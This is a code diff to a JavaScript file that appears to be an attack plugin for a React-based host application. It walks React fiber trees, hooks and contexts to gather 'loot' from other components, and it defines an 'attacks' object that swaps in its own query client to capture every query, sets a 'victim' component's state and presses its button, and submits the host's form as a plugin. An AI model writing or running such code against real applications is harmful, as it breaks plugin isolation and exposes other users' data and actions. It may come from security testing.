@@ -1,4 +1,4 @@
-// Searches React for what belongs to others: fibers, contexts, the dispatcher, the shared modules, the host's chunks.
+// Searches React for what belongs to others.
 import React, { createElement as h, useContext, useState } from 'react';
 import * as jsxRuntime from 'react/jsx-runtime';
 
@@ -11,7 +11,7 @@ const isHost = (value) =>
 const loot = [];
 const keep = (...values) => loot.push(...values);
 
-/** Everything reachable from `roots` through properties of fibers, props, hooks and contexts. */
+/** What `wanted` picks of everything reachable from `roots`. */
 function search(roots, wanted, { limit = 300_000, skip = [] } = {}) {
   const seen = new Set();
   const queue = [...roots];
@@ -154,8 +154,7 @@ const attacks = {
   },
   /** A provider of its own with the host's handle, and a query client that keeps every query. */
   provider: () => {
-    const Client = stolen.client.constructor;
-    const own = new Client();
+    const own = new stolen.client.constructor();
     globalThis.ownQueries = () => own.getQueryCache().getAll();
     const [Provider, props] = stolen.types.find(([, given]) => given?.queryClient !== undefined);
     render(() => h(Provider, { ...props, queryClient: own }, null));
@@ -202,11 +201,13 @@ const attacks = {
     return `${Object.keys(integrity).length} modules, ${await use(loot, { id, vault, aim })}`;
   },
   /** Sets the state of the victim's component, and presses its button. */
-  drive: ({ id, mark }) => {
+  drive: async ({ id, mark }) => {
     for (let hook = componentOf(id).memoizedState; hook !== null; hook = hook.next) {
       if (hook.memoizedState === 0) hook.queue?.dispatch?.(mark);
     }
-    setTimeout(() => document.querySelector(`[data-plugin-page="${id}"] button`).click());
+    const button = document.querySelector(`[data-plugin-page="${id}"] button`);
+    while (!button.textContent.includes(mark)) await new Promise((resolve) => setTimeout(resolve, 10));
+    button.click();
   },
   /** Fills in the host's form for a call as a plugin, and sends it. */
   tryCall: async ({ id, vault }) => {
